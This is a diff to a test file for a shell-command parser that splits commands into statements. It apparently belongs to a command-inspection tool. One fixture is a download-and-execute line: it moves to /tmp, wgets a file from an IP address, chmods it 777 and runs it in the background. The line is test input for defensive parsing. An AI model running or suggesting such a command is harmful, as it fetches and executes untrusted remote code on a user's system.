@@ -22,13 +22,13 @@ describe('statements', () => {
       'cd /tmp && wget http://192.0.2.1/x; chmod 777 x || ./x &',
       ['cd /tmp', 'wget http://192.0.2.1/x', 'chmod 777 x', './x'],
     ],
-    ["echo 'a; b | c' | sh", ['echo a; b | c', 'sh']],
+    ["echo 'a; b | c' | sh", ['echo a; b | c', 'sh', 'a', 'b', 'c']],
     ['echo $HOME > /tmp/x', ['echo $HOME > /tmp/x']],
     ['ls *.sh', ['ls *.sh']],
     ['', []],
     [' ;; ', []],
   ])('%s', (command, statements) => {
-    expect(statementsOf(command)).toEqual(statements)
+    expect(statementsOf(command).map(({ text }) => text)).toEqual(statements)
   })
 
   test('whatever is typed is read, and quickly', () => {
